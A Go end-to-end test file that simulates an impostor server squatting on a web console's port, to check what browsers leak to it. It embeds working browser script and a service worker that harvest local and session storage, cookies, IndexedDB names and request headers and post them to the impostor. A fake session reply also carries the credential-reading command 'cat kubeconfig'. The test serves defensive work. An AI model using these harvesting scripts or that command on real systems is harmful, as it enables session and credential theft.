// SPDX-License-Identifier: Apache-2.0

//go:build e2e

package browser_test

import (
	"io"
	"net/http"
	"net/http/httptest"
	"regexp"
	"slices"
	"strings"
	"sync"
	"sync/atomic"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"

	"goldsmith.dev/goldsmith/console"
)

// impostor is a program of another user that has the port of a console after its server. It keeps what browsers send, and its page and its
// service worker send what the browser has.
type impostor struct {
	signsOut atomic.Bool // whether it answers as a console that the page is not signed in to

	mutex sync.Mutex
	got   []string // credentials and bodies
}

const (
	impostorPage = `<!doctype html><body><script>
(async () => {
  await navigator.serviceWorker.register('/worker.js', {scope: '/'});
  await navigator.serviceWorker.ready;
  await fetch('/kept', {method: 'POST', body: JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie, await caches.keys(), await indexedDB.databases()])});
  document.body.append('the worker is there');
})();
</script>`
	impostorWorker = `addEventListener('fetch', (event) => event.respondWith(fetch('/kept', {method: 'POST', body: JSON.stringify([event.request.url, ...event.request.headers])})));
addEventListener('install', () => skipWaiting());`
)

// serveImpostor serves an impostor at a port, until the function is called.
func serveImpostor(port uint16) (_ *impostor, leave func()) {
	GinkgoHelper()
	i := &impostor{}
	listener, err := console.Listen(port)
	Expect(err).NotTo(HaveOccurred(), "the port of the former server is free")
	server := httptest.NewUnstartedServer(i)
	Expect(server.Listener.Close()).To(Succeed())
	server.Listener = listener
	server.Start()
	DeferCleanup(server.Close)
	return i, server.Close
}

func (i *impostor) ServeHTTP(writer http.ResponseWriter, request *http.Request) {
	body, _ := io.ReadAll(request.Body)
	i.mutex.Lock()
	i.got = append(i.got, request.Header.Get("Authorization"), request.Header.Get("Cookie"), string(body))
	i.mutex.Unlock()
	switch {
	case request.URL.Path == "/ui/":
		writer.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(writer, impostorPage)
	case request.URL.Path == "/worker.js":
		writer.Header().Set("Content-Type", "text/javascript")
		_, _ = io.WriteString(writer, impostorWorker)
	case request.URL.Path == "/ui/session":
		_, _ = io.WriteString(writer, `{"signIn":"token","command":"cat kubeconfig"}`)
	case i.signsOut.Load():
		refuseWith(writer, http.StatusUnauthorized, "the impostor signs you out")
	case strings.HasPrefix(request.URL.Path, "/apis/"):
		refuseWith(writer, http.StatusServiceUnavailable, "the impostor wants more")
	}
}

// seen returns what browsers sent.
func (i *impostor) seen() []string {
	i.mutex.Lock()
	defer i.mutex.Unlock()
	return slices.Clone(i.got)
}

// tokens returns the tokens in what browsers sent.
func (i *impostor) tokens() []string {
	tokens := regexp.MustCompile(`goldsmith-console-\w+`).FindAllString(strings.Join(i.seen(), "\n"), -1)
	slices.Sort(tokens)
	return slices.Compact(tokens)
}
